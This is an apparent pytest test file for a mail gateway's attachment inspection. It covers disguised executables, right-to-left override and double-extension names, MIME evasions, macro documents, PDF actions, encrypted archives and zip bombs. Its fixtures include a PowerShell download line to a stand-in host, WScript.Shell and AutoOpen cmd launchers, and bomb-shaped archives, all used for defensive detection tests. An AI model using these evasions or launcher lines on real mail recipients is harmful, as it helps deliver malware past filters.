"""Attachment inspection: every evasion of PERF-RELIABILITY-SECURITY C7 as real bytes, with the facts expected.

Fixtures are built by tests/attachment_fixtures.py from real formats; each test
states the facts the policy will act on (rule ``dangerous-attachment`` reads
``dangerous`` and ``ambiguous``; ``unsigned-document`` reads ``signed_any``).
"""

from __future__ import annotations

import io
import unicodedata
import warnings
import zipfile
from pathlib import Path
from typing import Any

import aiosmtplib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailgw.attachments import DANGEROUS, inspect_message
from mailgw.attachments import names as namefacts
from mailgw.config.settings import AttachmentLimits
from tests import attachment_fixtures as fx
from tests.conftest import keep_records, send

PE = fx.pe_exe()
SENDER = "vanthu.sotttt@binhthuan.gov.vn"
RCPT = "vanthu.snv@binhthuan.gov.vn"


def facts(raw: bytes, **limits: Any) -> dict[str, Any]:
    return inspect_message(raw, AttachmentLimits(**limits))


def at(result: dict[str, Any], location: str) -> dict[str, Any]:
    found = [f for f in result["files"] if f["location"] == location]
    assert found, f"no file at {location}: {[f['location'] for f in result['files']]}"
    return found[0]


def only(raw: bytes, **limits: Any) -> dict[str, Any]:
    """The facts of the one attachment of a message (part 2, after the text)."""
    result = facts(raw, **limits)
    assert not result["ambiguous"], result["ambiguous_reason"]
    return at(result, "2")


# --- The schema -------------------------------------------------------------


def test_an_empty_body_is_not_a_file():
    raw = fx.message(fx.multipart([fx.part("Content-Type: text/plain", b""), fx.part("Content-Type: text/html", b"")],
                                  "alternative"))
    assert facts(raw)["count"] == 0


def test_a_message_without_attachments_has_no_files_and_the_full_schema():
    raw = fx.message(fx.multipart([fx.text_part(), fx.text_part("<p>Kính gửi</p>", "html")], "alternative"))
    assert facts(raw) == {"count": 0, "total_size": 0, "ambiguous": False, "ambiguous_reason": None,
                          "ambiguous_parts": [], "signed_any": False, "files": []}


def test_every_file_carries_every_field_of_the_schema():
    f = only(fx.mail(fx.attachment(fx.pdf_plain(), ctype="application/pdf", filename="baocao.pdf")))
    assert set(f) == {"name", "names", "location", "in_archive", "depth", "size", "sha256", "declared_type",
                      "true_type", "extension", "type_mismatch", "kind", "executable", "script", "macro",
                      "double_extension", "rtl_override", "encrypted", "encryption", "encrypted_reason", "decrypted",
                      "damaged", "dde", "pdf", "archive", "signed", "dangerous"}
    assert f["name"] == "baocao.pdf" and f["kind"] == "pdf" and f["dangerous"] == []
    assert f["declared_type"] == "application/pdf" and f["true_type"] == "application/pdf"
    assert len(f["sha256"]) == 64 and f["size"] == len(fx.pdf_plain())
    assert f["pdf"] == {"javascript": False, "launch": False, "signatures": 0, "signers": [], "trusted": None}


def test_dangerous_reasons_are_the_fixed_set_in_order():
    assert DANGEROUS == ("executable", "script", "macro", "dde", "double_extension", "rtl_override",
                         "encrypted_archive", "archive_limits", "type_mismatch_executable")
    f = only(fx.mail(fx.attachment(PE, ctype="application/pdf", filename="baocao\u202efdp.exe")))
    assert f["dangerous"] == ["executable", "rtl_override", "type_mismatch_executable"]


# --- True types and executables ------------------------------------------


def test_a_pe_named_pdf_is_an_executable_hidden_by_a_type_mismatch():
    f = only(fx.mail(fx.attachment(PE, ctype="application/pdf", filename="baocao.pdf")))
    assert f["true_type"] == "application/vnd.microsoft.portable-executable"
    assert f["kind"] == "executable" and f["executable"] and f["type_mismatch"]
    assert f["dangerous"] == ["executable", "type_mismatch_executable"]


def test_an_elf_a_macho_and_a_shortcut_are_executables_by_their_bytes():
    raw = fx.mail(fx.attachment(fx.elf_exe(), filename="data.bin"), fx.attachment(fx.macho_exe(), filename="tool"),
                  fx.attachment(fx.lnk_shortcut(), filename="Báo cáo.lnk"))
    result = facts(raw)
    assert [(f["true_type"], f["kind"], f["dangerous"]) for f in result["files"]] == [
        ("application/x-executable", "executable", ["executable"]),
        ("application/x-mach-binary", "executable", ["executable"]),
        ("application/x-ms-shortcut", "executable", ["executable"]),
    ]


@pytest.mark.parametrize("name, body", [
    ("thongbao.js", b"var s = new ActiveXObject('WScript.Shell');"),
    ("thongbao.vbs", b"CreateObject(\"WScript.Shell\").Run \"cmd\""),
    ("thongbao.ps1", b"Invoke-WebRequest http://example.invalid/a.exe"),
    ("thongbao.bat", b"@echo off\r\nstart calc.exe\r\n"),
    ("thongbao.hta", b"<html><head><HTA:APPLICATION ID=a/></head></html>"),
])
def test_scripts_are_dangerous_by_their_name(name, body):
    f = only(fx.mail(fx.attachment(body, ctype="text/plain", filename=name)))
    assert f["script"] and f["kind"] == "script" and "script" in f["dangerous"]
    assert not f["type_mismatch"]


def test_an_hta_named_txt_is_a_script_by_its_bytes():
    f = only(fx.mail(fx.attachment(b"<html><head><HTA:APPLICATION/></head></html>", filename="doc-ky.txt")))
    assert f["true_type"] == "application/hta" and f["kind"] == "script"
    assert f["dangerous"] == ["script", "type_mismatch_executable"]


def test_a_plain_mismatch_is_a_fact_not_a_danger():
    f = only(fx.mail(fx.attachment(fx.pdf_plain(), ctype="application/msword", filename="baocao.doc")))
    assert f["type_mismatch"] and f["kind"] == "pdf" and f["dangerous"] == []


def test_a_pdf_named_exe_is_executable_by_its_name_only():
    f = only(fx.mail(fx.attachment(fx.pdf_plain(), filename="baocao.exe")))
    assert f["kind"] == "pdf" and f["executable"] and f["type_mismatch"]
    assert f["dangerous"] == ["executable"]


def test_an_unnamed_text_plain_part_holding_an_executable_is_a_file():
    raw = fx.mail(fx.part(["Content-Type: text/plain", "Content-Transfer-Encoding: base64"], fx.b64(PE)))
    f = only(raw)
    assert f["name"] is None and f["declared_type"] == "text/plain" and f["dangerous"] == [
        "executable", "type_mismatch_executable"]


def test_a_zip_with_bytes_in_front_is_still_a_zip():
    result = facts(fx.mail(fx.attachment(b"junk" * 10 + fx.zip_bytes([("a.exe", PE)]), filename="tailieu.dat")))
    f = at(result, "2")
    assert f["true_type"] == "application/zip" and f["kind"] == "archive" and f["type_mismatch"] is False
    assert at(result, "2!a.exe")["dangerous"] == ["executable"]


# --- Names --------------------------------------------------------------------


@pytest.mark.parametrize("name", ["baocao.pdf.exe", "baocao.pdf      .exe", "Báo cáo.docx_.js", "baocao.pdf.exe. . "])
def test_double_extensions(name):
    f = only(fx.mail(fx.attachment(PE, filename=name)))
    assert f["double_extension"] and "double_extension" in f["dangerous"]
    assert f["extension"] in ("exe", "js")


def test_a_double_extension_on_a_harmless_file_is_not_one():
    assert not namefacts.double_extension("bao.cao.thang.11.pdf")
    assert not namefacts.double_extension("v1.2.docx")


def test_a_right_to_left_override_hides_the_real_extension():
    name = "baocao\u202efdp.exe"  # shown as "baocaoexe.pdf"
    f = only(fx.mail(fx.attachment(PE, filename=name)))
    assert f["rtl_override"] and f["extension"] == "exe" and f["name"] == name
    assert f["dangerous"] == ["executable", "rtl_override"]


def test_a_name_only_in_content_type():
    f = only(fx.mail(fx.attachment(PE, name="tailieu.exe", disposition=None)))
    assert f["names"] == ["tailieu.exe"] and f["executable"]


def test_a_name_only_in_content_disposition():
    f = only(fx.mail(fx.attachment(PE, filename="tailieu.exe")))
    assert f["names"] == ["tailieu.exe"] and f["executable"]


def test_disagreeing_names_are_both_judged():
    f = only(fx.mail(fx.attachment(fx.pdf_plain(), ctype="application/pdf", name="tailieu.exe",
                                   filename="tailieu.pdf")))
    assert f["name"] == "tailieu.pdf" and f["names"] == ["tailieu.pdf", "tailieu.exe"]
    assert f["executable"] and f["dangerous"] == ["executable"] and f["type_mismatch"]


def test_duplicate_filename_parameters_are_all_judged():
    raw = fx.mail(fx.part(["Content-Type: application/octet-stream", "Content-Transfer-Encoding: base64",
                           "Content-Disposition: attachment; filename=\"a.pdf\"; filename*=utf-8''b.exe"],
                          fx.b64(fx.pdf_plain())))
    f = only(raw)
    assert set(f["names"]) == {"a.pdf", "b.exe"} and f["executable"]


def test_rfc2231_continuations_with_a_charset():
    raw = fx.mail(fx.part(["Content-Type: application/pdf", "Content-Transfer-Encoding: base64",
                           "Content-Disposition: attachment;",
                           " filename*0*=utf-8''B%C3%A1o%20c%C3%A1o%20th%C3%A1ng;",
                           " filename*1*=%2011.pdf;", " filename*2=.exe"], fx.b64(PE)))
    f = only(raw)
    assert f["name"] == "Báo cáo tháng 11.pdf.exe" and f["double_extension"]


def test_rfc2231_in_windows_1258():
    raw = fx.mail(fx.part(["Content-Type: application/pdf", "Content-Transfer-Encoding: base64",
                           "Content-Disposition: attachment; filename*=windows-1258''B%E1o%20c%E1o.pdf"],
                          fx.b64(fx.pdf_plain())))
    assert only(raw)["name"] == "Báo cáo.pdf"


def test_rfc2047_encoded_names_in_both_headers():
    import email.header

    word = email.header.Header("Tờ trình.pdf.exe", "utf-8").encode()
    f = only(fx.mail(fx.attachment(PE, name=word, filename=word)))
    assert f["names"] == ["Tờ trình.pdf.exe"] and f["double_extension"]


def test_an_encoded_whole_content_disposition_is_read():
    import email.header

    header = email.header.Header('attachment; filename="hoadon.exe"', "utf-8").encode()
    raw = fx.mail(fx.part(["Content-Type: application/octet-stream", "Content-Transfer-Encoding: base64",
                           f"Content-Disposition: {header}"], fx.b64(PE)))
    f = only(raw)
    assert f["names"] == ["hoadon.exe"]


def test_nfd_names_are_normalised_to_nfc():
    nfd = unicodedata.normalize("NFD", "Báo cáo tổng hợp.pdf")
    f = only(fx.mail(fx.attachment(fx.pdf_plain(), ctype="application/pdf", filename=nfd)))
    assert f["name"] == "Báo cáo tổng hợp.pdf" and unicodedata.is_normalized("NFC", f["name"])


def test_raw_utf8_names_are_decoded():
    raw = fx.mail(fx.part(["Content-Type: application/pdf", "Content-Transfer-Encoding: base64",
                           'Content-Disposition: attachment; filename="Kế hoạch.pdf"'], fx.b64(fx.pdf_plain())))
    assert only(raw)["name"] == "Kế hoạch.pdf"


# --- MIME structure ----------------------------------------------------------


def test_an_attachment_hidden_in_multipart_alternative():
    raw = fx.message(fx.multipart([fx.text_part(), fx.text_part("<p>x</p>", "html"),
                                   fx.attachment(PE, disposition="inline")], "alternative"))
    result = facts(raw)
    assert result["count"] == 1 and at(result, "3")["dangerous"] == ["executable"]


def test_an_attachment_inside_a_forwarded_message():
    inner = fx.message(fx.multipart([fx.text_part(), fx.attachment(PE, filename="chuyen tiep.exe")], boundary="in"))
    result = facts(fx.mail(fx.rfc822(inner)))
    f = at(result, "2.2")
    assert f["name"] == "chuyen tiep.exe" and f["dangerous"] == ["executable"] and not f["in_archive"]


def test_locations_follow_imap_numbering():
    inner = fx.message(fx.attachment(PE, filename="a.exe"))  # a single-part forwarded message
    raw = fx.mail(fx.multipart([fx.attachment(b"x", filename="a.txt"), fx.rfc822(inner)], boundary="b2"))
    assert [f["location"] for f in facts(raw)["files"]] == ["2.1", "2.2.1"]


def test_a_calendar_invitation_is_a_file_of_kind_calendar():
    ics = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Hop giao ban\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    raw = fx.mail(fx.part(["Content-Type: text/calendar; method=REQUEST; charset=utf-8"], ics))
    result = facts(raw)
    f = at(result, "2")
    assert f["kind"] == "calendar" and f["true_type"] == "text/calendar" and f["dangerous"] == []


def test_broken_base64_is_ambiguous_and_still_inspected():
    body = fx.b64(PE).replace(b"AAAA", b"A!A*", 1)
    raw = fx.mail(fx.part(["Content-Type: application/octet-stream", "Content-Transfer-Encoding: base64",
                           'Content-Disposition: attachment; filename="a.bin"'], body))
    result = facts(raw)
    assert result["ambiguous"] and result["ambiguous_reason"] == "broken base64 in part 2"
    assert at(result, "2")["kind"] == "executable"


def test_junk_after_base64_padding_is_broken_base64():
    raw = fx.mail(fx.part(["Content-Type: application/pdf", "Content-Transfer-Encoding: base64"],
                          fx.b64(b"%PDF-1.4 x") + b"--not-a-boundary\r\n"))
    assert facts(raw)["ambiguous_reason"] == "broken base64 in part 2"


def test_a_multipart_without_a_boundary_is_ambiguous():
    raw = fx.message(fx.part("Content-Type: multipart/mixed", b"--x\r\nContent-Type: text/plain\r\n\r\nhi\r\n--x--\r\n"))
    result = facts(raw)
    assert result["ambiguous"] and "multipart without a boundary in part 1" in result["ambiguous_reason"]


def test_a_boundary_that_never_appears_is_ambiguous():
    raw = fx.message(fx.part('Content-Type: multipart/mixed; boundary="missing"',
                             b"--other\r\nContent-Type: text/plain\r\n\r\nhi\r\n--other--\r\n"))
    assert "boundary not found in part 1" in facts(raw)["ambiguous_reason"]


def test_an_unterminated_multipart_ends_with_the_message():
    # RFC 2046 calls a missing close-delimiter a defect; every reader (Postfix, amavis, clients)
    # reads the parts it has, to the end of the message: so does the walker, and inspects them.
    raw = fx.message(fx.multipart([fx.text_part(), fx.attachment(fx.pdf_plain(), filename="a.pdf")], close=False))
    result = facts(raw)
    assert not result["ambiguous"] and result["count"] == 1 and result["files"][0]["kind"] == "pdf"
    hidden = fx.message(fx.multipart([fx.text_part(), fx.attachment(PE, filename="a.exe")], close=False))
    assert facts(hidden)["files"][0]["dangerous"][:1] == ["executable"]


def test_two_boundary_parameters_are_ambiguous():
    raw = fx.message(fx.multipart([fx.text_part()], extra_params='; boundary="b2"'))
    assert "two boundary parameters in the message" in facts(raw)["ambiguous_reason"]


def test_a_nested_multipart_reusing_the_outer_boundary_is_ambiguous():
    inner = fx.multipart([fx.attachment(PE, filename="a.exe")], boundary="b1x")
    raw = fx.message(fx.multipart([fx.text_part(), inner], boundary="b1"))
    assert "boundary of part 2 repeats an enclosing part's" in facts(raw)["ambiguous_reason"]


def test_two_content_type_headers_are_ambiguous():
    raw = fx.mail(fx.part(["Content-Type: application/pdf", "Content-Type: application/x-msdownload",
                           "Content-Transfer-Encoding: base64"], fx.b64(PE)))
    assert "2 Content-Type headers in part 2" in facts(raw)["ambiguous_reason"]


def test_mime_parts_after_the_closing_boundary_are_ambiguous():
    hidden = b"--b1\r\n" + fx.attachment(PE, filename="a.exe") + b"\r\n"
    raw = fx.mail(fx.attachment(b"x", filename="a.txt")) + hidden
    assert "MIME data after the closing boundary of the message" in facts(raw)["ambiguous_reason"]


def test_an_encoded_forwarded_message_is_ambiguous():
    inner = fx.message(fx.attachment(PE, filename="a.exe"))
    raw = fx.mail(fx.part(["Content-Type: message/rfc822", "Content-Transfer-Encoding: base64"], fx.b64(inner)))
    assert "message/rfc822 with Content-Transfer-Encoding 'base64' in part 2" in facts(raw)["ambiguous_reason"]


def test_an_unknown_transfer_encoding_is_ambiguous():
    raw = fx.mail(fx.part(["Content-Type: application/octet-stream", "Content-Transfer-Encoding: x-gzip64"], b"abc"))
    assert facts(raw)["ambiguous_reason"] == "unknown Content-Transfer-Encoding 'x-gzip64' in part 2"


def test_uuencoded_data_in_a_text_body_is_ambiguous():
    import binascii

    uu = b"begin 644 a.exe\r\n" + binascii.b2a_uu(PE[:45]) + b"`\r\nend\r\n"
    raw = fx.mail(fx.part("Content-Type: text/plain", b"Xem tep dinh kem:\r\n" + uu))
    assert facts(raw)["ambiguous_reason"] == "uuencoded data inside the text of part 2"


def test_message_partial_is_ambiguous():
    raw = fx.mail(fx.part('Content-Type: message/partial; id="x"; number=1; total=2', b"From: a@b\r\n\r\nhi"))
    assert "message/partial (a message in fragments) in part 2" in facts(raw)["ambiguous_reason"]


def test_an_overlong_content_type_is_refused_before_the_parser_sees_it():
    # The email package splits parameters in quadratic time: this header would cost it minutes.
    header = 'Content-Type: multipart/mixed; boundary="b"; x="' + ";" * 400_000 + '"'
    raw = fx.message(fx.part(header, b"--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n"))
    result = facts(raw)
    assert result["ambiguous_reason"] == "Content-Type header over 8192 characters" and result["files"] == []


def test_a_long_rfc2231_name_is_not_overlong():
    name = "".join(f" filename*{i}*={'utf-8' + chr(39) * 2 if i == 0 else ''}B%C3%A1o%20c%C3%A1o%20;\r\n"
                   for i in range(40)).rstrip(";\r\n")  # about 1.5 KB, folded over 40 lines
    raw = fx.mail(fx.part(["Content-Type: application/pdf", "Content-Transfer-Encoding: base64",
                           "Content-Disposition: attachment;\r\n" + name], fx.b64(fx.pdf_plain())))
    assert only(raw)["name"] == "Báo cáo " * 40


def test_mime_depth_over_the_limit_is_ambiguous():
    body = fx.attachment(PE, filename="a.exe")
    for level in range(6):
        body = fx.multipart([body], boundary=f"d{level}")
    result = facts(fx.message(body), max_depth=4)
    assert result["ambiguous"] and result["ambiguous_reason"] == "MIME depth over 4"


def test_too_many_parts_is_ambiguous_before_the_parser_builds_them():
    raw = fx.message(fx.multipart([fx.text_part("x")] * 50))
    result = facts(raw, max_parts=20)
    assert result["ambiguous_reason"] == "more than 20 MIME parts" and result["files"] == []


def test_decoded_size_over_the_limit_is_ambiguous():
    raw = fx.mail(fx.attachment(b"\x00" * 5000, filename="a.bin"), fx.attachment(b"\x00" * 5000, filename="b.bin"))
    result = facts(raw, max_decoded_size=8000)
    assert result["ambiguous_reason"] == "decoded parts over 8000 bytes (at part 3)"
    assert [f["location"] for f in result["files"]] == ["2"]


def test_the_time_budget_ends_inspection_as_ambiguous():
    raw = fx.mail(fx.attachment(fx.zip_bytes([(f"f{i}.txt", b"x") for i in range(50)]), filename="a.zip"))
    result = facts(raw, time_budget=1e-9)
    assert result["ambiguous"] and result["ambiguous_reason"].startswith("time budget of 1e-09 s used up")


# --- Office macros -----------------------------------------------------------


def test_the_vba_fixture_is_a_real_vba_project():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from oletools import olevba
    parser = olevba.VBA_Parser("vbaProject.bin", data=fx.vba_project_bin(), relaxed=False)
    sources = [code for *_, code in parser.extract_macros()]
    parser.close()
    assert sources and "Sub AutoOpen()" in sources[0] and 'Shell "cmd.exe' in sources[0]


def test_a_docm_with_a_vba_project():
    f = only(fx.mail(fx.attachment(fx.ooxml_word(macro_enabled=True, vba=fx.vba_project_bin()), filename="baocao.docm")))
    assert f["true_type"] == "application/vnd.ms-word.document.macroEnabled.12"
    assert f["kind"] == "office_macro" and f["macro"] and f["dangerous"] == ["macro"]


def test_a_docx_carrying_a_vba_project_is_found_by_its_content():
    f = only(fx.mail(fx.attachment(fx.ooxml_word(macro_enabled=False, vba=fx.vba_project_bin()), filename="baocao.docx")))
    assert f["true_type"] == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert not f["type_mismatch"] and f["macro"] and f["dangerous"] == ["macro"]


def test_a_vba_project_under_another_part_name_is_found():
    package = fx.ooxml_word(macro_enabled=False, vba=fx.vba_project_bin(), vba_part="media/image9.xml")
    f = only(fx.mail(fx.attachment(package, filename="baocao.docx")))
    assert f["macro"] and f["dangerous"] == ["macro"]


def test_a_word_97_document_with_macros():
    f = only(fx.mail(fx.attachment(fx.doc_with_macros(), ctype="application/msword", filename="congvan.doc")))
    assert f["true_type"] == "application/msword" and f["kind"] == "office_macro" and f["dangerous"] == ["macro"]


def test_a_plain_docx_is_harmless():
    f = only(fx.mail(fx.attachment(fx.python_docx(), filename="baocao.docx",
                                   ctype="application/vnd.openxmlformats-officedocument.wordprocessingml.document")))
    assert f["kind"] == "office" and not f["macro"] and f["dangerous"] == [] and not f["type_mismatch"]


def test_a_macro_enabled_name_on_a_plain_docx_counts_as_macro():
    f = only(fx.mail(fx.attachment(fx.python_docx(), filename="baocao.docm")))
    assert f["macro"] and f["kind"] == "office_macro" and f["type_mismatch"] and f["dangerous"] == ["macro"]


# --- PDF -----------------------------------------------------------------------


def test_a_pdf_with_javascript():
    f = only(fx.mail(fx.attachment(fx.pdf_with_javascript(), ctype="application/pdf", filename="giaymoi.pdf")))
    assert f["pdf"]["javascript"] and not f["pdf"]["launch"] and f["dangerous"] == []


def test_a_pdf_with_a_launch_action():
    f = only(fx.mail(fx.attachment(fx.pdf_with_launch(), ctype="application/pdf", filename="giaymoi.pdf")))
    assert f["pdf"]["launch"] and not f["pdf"]["javascript"]


def test_a_javascript_name_hidden_by_hex_escapes_is_found():
    pdf = fx.pdf_with_javascript().replace(b"/JavaScript", b"/J#61vaScript")
    f = only(fx.mail(fx.attachment(pdf, filename="giaymoi.pdf")))
    assert f["pdf"]["javascript"]


def test_a_file_embedded_in_a_pdf_is_inspected():
    result = facts(fx.mail(fx.attachment(fx.pdf_with_embedded("hoadon.exe", PE), filename="hoadon.pdf")))
    assert result["count"] == 2
    f = at(result, "2!hoadon.exe")
    assert f["in_archive"] and f["depth"] == 1 and f["dangerous"] == ["executable"]


@pytest.fixture(scope="module")
def test_ca() -> fx.TestCA:
    return fx.TestCA()


@pytest.fixture(scope="module")
def signed_pdf(test_ca: fx.TestCA) -> bytes:
    return test_ca.sign_pdf(fx.pdf_plain("So: 12/QD-UBND"))


def test_a_signed_pdf_names_its_signer_and_trust_is_unknown_without_a_store(signed_pdf):
    result = facts(fx.mail(fx.attachment(signed_pdf, ctype="application/pdf", filename="quyetdinh.pdf")))
    f = at(result, "2")
    assert f["pdf"] == {"javascript": False, "launch": False, "signatures": 1, "signers": ["Nguyễn Văn An"],
                        "trusted": None}
    assert f["signed"] and result["signed_any"] and f["dangerous"] == []


def test_a_signed_pdf_is_trusted_when_its_root_is_in_the_store(signed_pdf, test_ca, tmp_path):
    store = tmp_path / "roots.pem"
    store.write_bytes(test_ca.ca_pem())
    f = only(fx.mail(fx.attachment(signed_pdf, filename="quyetdinh.pdf")), trust_store=str(store))
    assert f["pdf"]["trusted"] is True


def test_a_signed_pdf_is_not_trusted_under_another_root(signed_pdf, tmp_path):
    store = tmp_path / "roots"
    store.mkdir()
    (store / "other.pem").write_bytes(fx.TestCA(name="Một CA khác").ca_pem())
    f = only(fx.mail(fx.attachment(signed_pdf, filename="quyetdinh.pdf")), trust_store=str(store))
    assert f["pdf"]["trusted"] is False and f["signed"]


def test_a_signed_pdf_changed_after_signing_is_not_trusted(signed_pdf, test_ca, tmp_path):
    store = tmp_path / "roots.pem"
    store.write_bytes(test_ca.ca_pem())
    tampered = signed_pdf.replace(b"/MediaBox", b"/MediaBoX", 1)
    f = only(fx.mail(fx.attachment(tampered, filename="quyetdinh.pdf")), trust_store=str(store))
    assert f["pdf"]["signatures"] == 1 and f["pdf"]["trusted"] is False


def test_without_pyhanko_trust_is_unknown_and_said_once_in_the_log(signed_pdf, test_ca, tmp_path, monkeypatch, caplog):
    import sys

    from mailgw.attachments import pdf as pdffacts

    store = tmp_path / "roots.pem"
    store.write_bytes(test_ca.ca_pem())
    monkeypatch.setitem(sys.modules, "pyhanko.sign.validation", None)  # import fails as if not installed
    pdffacts._validator.cache_clear()
    try:
        with caplog.at_level("WARNING", logger="mailgw.attachments.pdf"):
            first = only(fx.mail(fx.attachment(signed_pdf, filename="quyetdinh.pdf")), trust_store=str(store))
            second = only(fx.mail(fx.attachment(signed_pdf, filename="quyetdinh2.pdf")), trust_store=str(store))
    finally:
        pdffacts._validator.cache_clear()
    assert first["pdf"]["trusted"] is None and second["pdf"]["trusted"] is None
    assert first["pdf"]["signers"] == ["Nguyễn Văn An"]  # read without pyHanko
    said = [r for r in caplog.records if r.name == "mailgw.attachments.pdf" and r.levelname == "WARNING"]
    assert len(said) == 1 and "pyHanko did not import" in said[0].getMessage()


def test_an_unsigned_pdf_is_not_signed():
    result = facts(fx.mail(fx.attachment(fx.pdf_plain(), filename="a.pdf")))
    assert not result["signed_any"] and at(result, "2")["pdf"]["signatures"] == 0


# --- Archives -------------------------------------------------------------


def test_a_zip_is_listed_recursively_in_memory():
    data = fx.zip_bytes([("tai lieu/a.exe", PE), ("ghichu.txt", "Ghi chú".encode())])
    result = facts(fx.mail(fx.attachment(data, ctype="application/zip", filename="tailieu.zip")))
    archive = at(result, "2")
    assert archive["kind"] == "archive" and archive["dangerous"] == []
    assert archive["archive"] == {"members": 2, "expanded": len(PE) + len("Ghi chú".encode()),
                                  "ratio": round((len(PE) + 9) / len(data), 2), "over_limits": False, "reason": None}
    exe = at(result, "2!tai lieu/a.exe")
    assert exe["in_archive"] and exe["depth"] == 1 and exe["declared_type"] is None
    assert exe["dangerous"] == ["executable"] and exe["true_type"] == "application/vnd.microsoft.portable-executable"
    assert result["count"] == 3 and result["total_size"] == len(data)


def test_nested_zips_give_nested_locations():
    result = facts(fx.mail(fx.attachment(fx.nested_zip(3, ("x.exe", PE)), filename="a.zip")))
    f = at(result, "2!level1.zip!level2.zip!x.exe")
    assert f["depth"] == 3 and f["dangerous"] == ["executable"]


def test_archives_nested_past_the_limit_are_over_limits():
    result = facts(fx.mail(fx.attachment(fx.nested_zip(4, ("x.exe", PE)), filename="a.zip")), max_archive_depth=2)
    deepest = at(result, "2!level1.zip!level2.zip")
    assert deepest["archive"]["over_limits"] and deepest["archive"]["reason"] == "archive nested deeper than 2 levels"
    assert deepest["dangerous"] == ["archive_limits"]
    assert not any(f["location"].endswith("x.exe") for f in result["files"])


def test_a_zip_encrypted_with_zipcrypto():
    data = fx.zipcrypto_zip([("a.exe", PE), ("b.txt", b"hello")])
    assert zipfile.ZipFile(io.BytesIO(data)).read("b.txt", pwd=b"123456") == b"hello"  # the fixture is real
    result = facts(fx.mail(fx.attachment(data, filename="matkhau.zip")))
    archive, exe = at(result, "2"), at(result, "2!a.exe")
    assert archive["encrypted"] and archive["dangerous"] == ["encrypted_archive"]
    assert exe["encrypted"] and exe["sha256"] is None and exe["size"] == len(PE) and exe["dangerous"] == ["executable"]


def test_a_zip_encrypted_with_aes():
    result = facts(fx.mail(fx.attachment(fx.aes_zip([("baocao.pdf", fx.pdf_plain())]), filename="a.zip")))
    assert at(result, "2")["dangerous"] == ["encrypted_archive"]
    assert at(result, "2!baocao.pdf")["encrypted"] and at(result, "2!baocao.pdf")["dangerous"] == []


def test_a_zip_bomb_is_stopped_before_it_is_unpacked():
    bomb = fx.zip_bomb(64 * 1024 * 1024)
    result = facts(fx.mail(fx.attachment(bomb, filename="bom.zip")))
    archive = at(result, "2")
    assert archive["archive"]["over_limits"] and archive["archive"]["expanded"] == 64 * 1024 * 1024
    assert archive["archive"]["reason"].startswith("zip compression ratio") and archive["dangerous"] == ["archive_limits"]
    assert at(result, "2!zeros.bin")["sha256"] is None  # listed, never unpacked


def test_overlapping_zip_entries_are_a_bomb_shape():
    archive = at(facts(fx.mail(fx.attachment(fx.overlapping_zip(), filename="a.zip"))), "2")["archive"]
    assert archive["over_limits"] and archive["reason"] == "zip entries overlap (the shape of a zip bomb)"


def test_joined_zips_are_over_limits():
    joined = fx.zip_bytes([("a.exe", PE)]) + fx.zip_bytes([("b.txt", b"hi")])
    archive = at(facts(fx.mail(fx.attachment(joined, filename="a.zip"))), "2")["archive"]
    assert archive["reason"] == "zip holds data its directory does not list (hidden or joined archives)"


def test_archive_member_count_limit():
    data = fx.zip_bytes([(f"f{i}.txt", b"x") for i in range(30)])
    result = facts(fx.mail(fx.attachment(data, filename="a.zip")), max_archive_members=10)
    archive = at(result, "2")["archive"]
    assert archive["over_limits"] and archive["members"] == 10 and result["count"] == 11


def test_archive_total_limit():
    data = fx.zip_bytes([("a.bin", bytes(range(256)) * 4096), ("b.bin", bytes(range(256)) * 4096)])
    archive = at(facts(fx.mail(fx.attachment(data, filename="a.zip")), max_archive_total=1_500_000), "2")["archive"]
    assert archive["over_limits"] and "over the 1500000-byte limit" in archive["reason"]


def test_a_tar_gz_is_unpacked_twice():
    result = facts(fx.mail(fx.attachment(fx.tar_gz([("bin/x.exe", PE)], gz_name="tailieu.tar"), filename="tailieu.tgz")))
    assert at(result, "2!tailieu.tar")["kind"] == "archive"
    assert at(result, "2!tailieu.tar!bin/x.exe")["dangerous"] == ["executable"]


def test_a_gzip_bomb_is_stopped_by_its_ratio():
    import gzip

    bomb = gzip.compress(b"\x00" * (32 * 1024 * 1024), mtime=0)
    archive = at(facts(fx.mail(fx.attachment(bomb, filename="a.gz"))), "2")["archive"]
    assert archive["over_limits"] and archive["reason"] == "gzip compression ratio over 100"
    assert archive["expanded"] <= 5 * 1024 * 1024  # stopped once the ratio showed, not after 32 MiB


def test_a_7z_is_unpacked_in_memory():
    result = facts(fx.mail(fx.attachment(fx.sevenzip([("a.exe", PE), ("d/b.txt", b"hello")]), filename="a.7z")))
    assert at(result, "2")["archive"]["members"] == 2
    assert at(result, "2!a.exe")["dangerous"] == ["executable"] and at(result, "2!d/b.txt")["kind"] == "text"


def test_an_encrypted_7z():
    result = facts(fx.mail(fx.attachment(fx.sevenzip([("a.exe", PE)], password="x"), filename="a.7z")))
    assert at(result, "2")["dangerous"] == ["encrypted_archive"] and at(result, "2!a.exe")["encrypted"]


def test_a_7z_with_encrypted_names():
    result = facts(fx.mail(fx.attachment(fx.sevenzip([("a.exe", PE)], password="x", header_encryption=True),
                                         filename="a.7z")))
    assert result["count"] == 1 and at(result, "2")["dangerous"] == ["encrypted_archive"]


def test_a_rar_with_stored_members_is_read():
    result = facts(fx.mail(fx.attachment(fx.rar5([("x/a.exe", PE)]), filename="a.rar")))
    assert at(result, "2")["dangerous"] == []
    assert at(result, "2!x/a.exe")["true_type"] == "application/vnd.microsoft.portable-executable"


def test_a_compressed_rar_is_uninspectable():
    result = facts(fx.mail(fx.attachment(fx.rar5([("baocao.pdf", b"%PDF-")], compressed=True), filename="a.rar")))
    archive = at(result, "2")
    assert archive["archive"]["reason"].startswith("uninspectable") and archive["dangerous"] == ["archive_limits"]
    assert at(result, "2!baocao.pdf")["sha256"] is None


def test_an_encrypted_rar():
    result = facts(fx.mail(fx.attachment(fx.rar5([("a.exe", PE)], encrypted=True), filename="a.rar")))
    assert at(result, "2")["dangerous"] == ["encrypted_archive"]


def test_a_cab_is_uninspectable():
    archive = at(facts(fx.mail(fx.attachment(fx.cab_header(), filename="setup.cab"))), "2")
    assert archive["archive"]["reason"] == "uninspectable: CAB archives cannot be listed here"


# --- Settings -------------------------------------------------------------------


def _settings(tmp_path: Path, section: str) -> Path:
